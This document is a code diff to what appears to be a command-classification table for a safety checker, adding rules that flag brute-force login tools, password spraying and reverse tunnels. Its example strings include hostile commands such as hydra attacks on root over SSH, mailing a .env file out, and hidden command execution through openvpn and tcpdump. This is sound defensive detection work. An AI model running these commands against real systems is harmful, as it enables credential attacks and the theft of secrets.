@@ -1,9 +1,12 @@
-import type { Row } from '../command/row.js';
+import type { Row, RowCondition } from '../command/row.js';
 import { COPIED_TO_PRODUCTION } from './conditions/to-production.js';
 
 const SYNC_DELETES = ['--delete', '--delete-after', '--delete-before', '--delete-during', '--delete-delay', '--delete-excluded', '--del'] as const;
 /** With these it deletes what it has copied, at the side that it was copied from. */
 const MOVES = ['--remove-source-files', '--remove-sent-files'] as const;
+
+/** Of one's own services, logins may be tried out. */
+const ELSEWHERE: RowCondition = { noOperand: /(?:^|[/=@])(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[?::1\]?)(?:[:/]|$)/ };
 
 /** Programs that reach other machines. */
 export const NETWORK: readonly Row[] = [
@@ -136,7 +139,7 @@ export const NETWORK: readonly Row[] = [
   { program: 'tcpdump', operands: 'text', options: { '-z': 'hidden', '-w': 'write', '-r': 'read', '-i': 'text', '-c': 'text', '-G': 'text', '-C': 'text', '-W': 'text', '-s': 'text', '-Z': 'text', '-T': 'text', '-F': 'read' }, examples: [['tcpdump -e -z ./x -w a -G 1', 'execute hidden-command:tcpdump', 'write /home/u/proj/a'], ['tcpdump -r a', 'read /home/u/proj/a']] },
   { program: 'openvpn', operands: 'use', dashed: true, options: Object.fromEntries([...['--up', '--down', '--route-up', '--ipchange', '--client-connect', '--tls-verify', '--auth-user-pass-verify', '--learn-address'].map((option) => [option, 'hidden'] as const), ['--plugin', 'execute'], ['--config', 'use']]), examples: [["openvpn --dev null --script-security 2 --up 'sh -c ./x'", 'execute hidden-command:openvpn'], ['openvpn --config a.ovpn', 'use /home/u/proj/a.ovpn']] },
   { program: 'ztcp', operands: 'text', effects: [{ kind: 'execute', resource: 'host', when: { operands: 'some' } }], examples: [['ztcp 10.0.0.5 4444', 'execute host'], ['ztcp -L']] },
-  { program: 'nmap | masscan', operands: 'host', options: { '-p': 'text', '--script': 'execute', '-oN': 'write', '-iL': 'read' }, dashed: true, examples: [['nmap --script=x host', 'execute /home/u/proj/x']] },
+  { program: 'nmap | masscan', operands: 'host', options: { '-p': 'text', '--script': 'execute', '-oN': 'write', '-iL': 'read' }, dashed: true, effects: [{ kind: 'send', resource: 'host', name: 'logins tried out', when: { value: /^--?script=(?:[^]*[,\s])?[\w*-]*brute/, ...ELSEWHERE } }], examples: [['nmap --script=x host', 'execute /home/u/proj/x'], ['nmap --script http-title,ssh-brute h.test', 'send host:logins tried out']] },
   { program: 'mail | mailx | mutt | sendmail | msmtp | swaks | s-nail', operands: 'text', options: { '-a': 'send', '-A': 'send', '--attach': 'send', '-s': 'text', '-c': 'text', '-b': 'text', '-r': 'text', '-H': 'text' }, stdin: 'send', effects: [{ kind: 'send', resource: 'host' }], examples: [['mail -a .env -s x a@x.test', 'send /home/u/proj/.env']] },
   { program: 'ssh-import-id | ssh-import-id-gh | ssh-import-id-lp', operands: 'text', options: { '-o': 'write', '--output': 'write', '-u': 'text' }, effects: [{ kind: 'write', path: '~/.ssh/authorized_keys', when: { none: ['-o', '--output', '-r', '--remove'] } }], examples: [['ssh-import-id gh:x', 'write /home/u/.ssh/authorized_keys'], ['ssh-import-id-gh x -o a', 'write /home/u/proj/a']] },
   { program: 'ssh-copy-id', operands: 'host', options: { '-i': 'use', '-p': 'text', '-o': 'text' }, effects: [{ kind: 'change-permission', resource: 'account', name: 'authorized keys', when: { operands: 'some', none: ['-n', '-h', '-?'] } }], examples: [['ssh-copy-id -i k x.test', 'use /home/u/proj/k', 'change-permission account:authorized keys'], ['ssh-copy-id -n -i k x.test']] },
@@ -233,5 +236,29 @@ export const NETWORK: readonly Row[] = [
   },
   { program: 'code tunnel | code-insiders tunnel', operands: 'text', options: { '--name': 'text' }, variants: [{ when: { operand: /^(?:status|kill|unregister|prune|help)$/ }, effects: [] }], effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel' }], examples: [['code tunnel --accept-server-license-terms', 'send host:reverse tunnel'], ['code tunnel status']] },
   { program: 'chisel client', operands: 'text', effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^R:/ } }], examples: [['chisel client h.test:80 R:8000:localhost:80', 'send host:reverse tunnel'], ['chisel client h.test:80 8000:localhost:80']] },
+  // Forwarding from the other end, to which only the first may be told apart.
+  { program: 'gost', operands: 'text', options: { '-L': 'text', '-F': 'text', '-C': 'use' }, effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { value: /^-L=r(?:tcp|udp):/ } }], examples: [['gost -L rtcp://:2222/:22 -F relay+wss://h.test', 'send host:reverse tunnel'], ['gost -L http://:8080']] },
+  { program: 'dockerd', operands: 'text', options: { '-H': 'text', '--host': 'text', '--config-file': 'use' }, effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { value: /^(?:-H|--host)=tcp:\/\/(?!localhost|127\.|\[::1\])/ } }], examples: [['dockerd -H tcp://0.0.0.0:2375', 'send host:reverse tunnel'], ['dockerd -H unix:///run/docker.sock -H tcp://127.0.0.1:2375']] },
+  // A server for logins, a tool for settings and others have the first name: they know none of these options.
+  {
+    program: 'hydra | ncrack',
+    operands: 'text',
+    options: { '-l': 'text', '-L': 'read', '-p': 'text', '-P': 'read', '-C': 'read', '-M': 'read', '-x': 'text', '-e': 'text', '-s': 'text', '-t': 'text', '-o': 'write', '-U': 'read', '--user': 'text', '--pass': 'text' },
+    effects: [{ kind: 'send', resource: 'host', name: 'logins tried out', when: { any: ['-L', '-P', '-C', '-x', '-M', '-U', '--pass'], ...ELSEWHERE } }],
+    examples: [['hydra -l root -P words.txt ssh://h.test', 'send host:logins tried out'], ['hydra -L u.txt -p x 10.0.0.4 ssh', 'send host:logins tried out'], ['hydra -l a -P w.txt ssh://127.0.0.1'], ['hydra serve all --dev'], ['hydra create client -e http://h.test:4445']],
+  },
+  {
+    program: 'patator | crowbar | kerbrute | brutespray | thc-hydra | legba',
+    operands: 'text',
+    effects: [{ kind: 'send', resource: 'host', name: 'logins tried out', when: { operands: 'some', none: ['--help', '-h'], ...ELSEWHERE } }],
+    examples: [['patator ssh_login host=h.test user=root password=FILE0 0=w.txt', 'send host:logins tried out'], ['kerbrute passwordspray -d h.test u.txt x', 'send host:logins tried out'], ['patator --help']],
+  },
+  {
+    program: 'netexec | nxc | crackmapexec | cme',
+    operands: 'text',
+    options: { '-u': 'text', '-p': 'text', '-H': 'text', '-M': 'text', '-x': 'text', '-X': 'text' },
+    effects: [{ kind: 'send', resource: 'host', name: 'logins tried out', when: { any: ['-p', '-H'], ...ELSEWHERE } }],
+    examples: [['nxc smb 10.0.0.0/24 -u u.txt -p p.txt', 'send host:logins tried out'], ['nxc --version']],
+  },
   { program: 'serve | http-server | live-server | miniserve', operands: 'send', defaultOperand: '.', recursive: true, options: { '-p': 'text', '-l': 'text', '--port': 'text', '--listen': 'text', '-a': 'text', '-c': 'text', '--host': 'text', '-i': 'text' }, examples: [['npx serve -l 3000 dist', 'send -r /home/u/proj/dist'], ['http-server', 'send -r /home/u/proj']] },
 ];
